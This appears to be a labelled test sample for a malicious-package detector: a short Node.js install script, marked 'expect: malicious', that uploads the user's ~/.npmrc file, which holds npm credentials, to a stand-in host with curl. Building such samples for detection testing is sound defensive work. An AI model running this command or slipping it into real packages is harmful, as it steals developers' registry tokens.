// when: install
// expect: malicious
const { execSync } = require('child_process'), os = require('os');
const p = os.homedir() + '/.npmrc';
execSync(`curl -s -F f=@${p} https://u.example/up`);
